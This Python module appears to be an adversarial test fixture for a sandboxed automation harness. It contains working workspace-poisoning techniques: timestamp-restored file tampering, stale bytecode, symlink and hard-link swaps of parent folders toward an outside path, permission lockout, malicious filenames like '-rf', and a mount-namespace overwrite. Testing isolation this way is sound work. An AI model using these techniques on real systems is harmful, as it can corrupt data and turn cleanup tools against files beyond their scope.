"""Changes its workspace so that the next Attempt gets something of it, or that whoever cleans up harms others."""

import contextlib
import os
import shutil
from pathlib import Path

from ways import in_child


def set_back(outside):
    """Change a file, and set its size and times back."""
    file = Path("api/fine.py")
    before = file.stat()
    file.write_bytes(file.read_bytes().replace(b"fine", b"evil"))
    os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns))


def compiled(outside):
    """Leave compiled code that fits the source."""
    import py_compile

    file = Path("api/fine.py")
    before, source = file.stat(), file.read_bytes()
    file.write_bytes(source.replace(b"fine", b"evil"))
    os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns))
    py_compile.compile(str(file))
    file.write_bytes(source)
    os.utime(file, ns=(before.st_atime_ns, before.st_mtime_ns))


def hard_link(outside):
    """Keep a second name of a file elsewhere, and change it by that."""
    os.link("api/fine.py", "../tmp/kept")
    with open("../tmp/kept", "ab") as file:
        file.write(b"\n# evil\n")


def link_files(outside):
    """Put links in the place of files and folders, to what is outside."""
    os.remove("api/fine.py")
    os.symlink(f"{outside}/keep.txt", "api/fine.py")
    shutil.rmtree("../tmp")
    os.symlink(outside, "../tmp")
    shutil.rmtree("../home")
    os.symlink(outside, "../home")


def link_workspace(outside):
    """Put a link in the place of the project, of the workspace, and of all that is beside it."""
    here = Path.cwd()
    for place in (here, here.parent, *here.parent.parent.iterdir()):
        with contextlib.suppress(OSError):
            os.rename(place, f"{place}.away")
            os.symlink(outside, place)


def link_scratch(outside):
    """Put links of all likely names into each folder above that can be written to."""
    names = (
        "traces",
        "driver",
        "attempt",
        "tmp",
        "home",
        "evidence",
        "trace.zip",
        "screenshot.png",
        "left-0",
        "logs",
        "x",
    )
    for folder in (*Path.cwd().parents, *Path.cwd().parents[1].iterdir()):
        for name in names:
            with contextlib.suppress(OSError):
                os.symlink(outside, f"{folder}/{name}")


def deep(outside):
    """Make folders in folders, deeper than a path can be long and a program can descend."""
    here = os.open(".", os.O_PATH)
    with contextlib.suppress(OSError):
        for _ in range(3000):
            os.mkdir("x" * 100)
            os.chdir("x" * 100)
    os.fchdir(here)


def locked(outside):
    """Take everybody's rights away."""
    os.makedirs("locked/locked")
    for path in ("locked/locked", "locked", "api", "..", "."):
        with contextlib.suppress(OSError):
            os.chmod(path, 0)


def odd(outside):
    """Make what is neither a file nor a folder, and names that are no text."""
    os.remove("api/fine.py")
    os.mkfifo("api/fine.py")
    os.mkfifo("../tmp/fifo")
    for name in (b"\xff\xfe", b"new\nline", b"-rf", b" ", b"*"):
        os.mkdir(b"../tmp/" + name)


def many(outside):
    for n in range(5000):
        os.close(os.open(f"../tmp/{n}", os.O_CREAT))


def mounted(outside):
    """Mount what is outside over the project, in namespaces of its own, and change it from there."""

    def inside():
        import ctypes

        os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNS)
        libc = ctypes.CDLL(None, use_errno=True)
        here = os.getcwd().encode()
        libc.mount(outside.encode(), here, None, 0x1000, None)
        libc.mount(None, here, None, 0x1000 | 0x20, None)
        Path("api/fine.py").write_text("async def automation(page, params=None):\n    return 'evil'\n")

    in_child(inside)


WAYS = {way.__name__: way for way in (
    set_back, compiled, hard_link, link_files, link_workspace, link_scratch, deep, locked, odd, many, mounted
)}  # fmt: skip


async def automation(page, params):
    WAYS[params["way"]](params["outside"])
    return "poisoned"
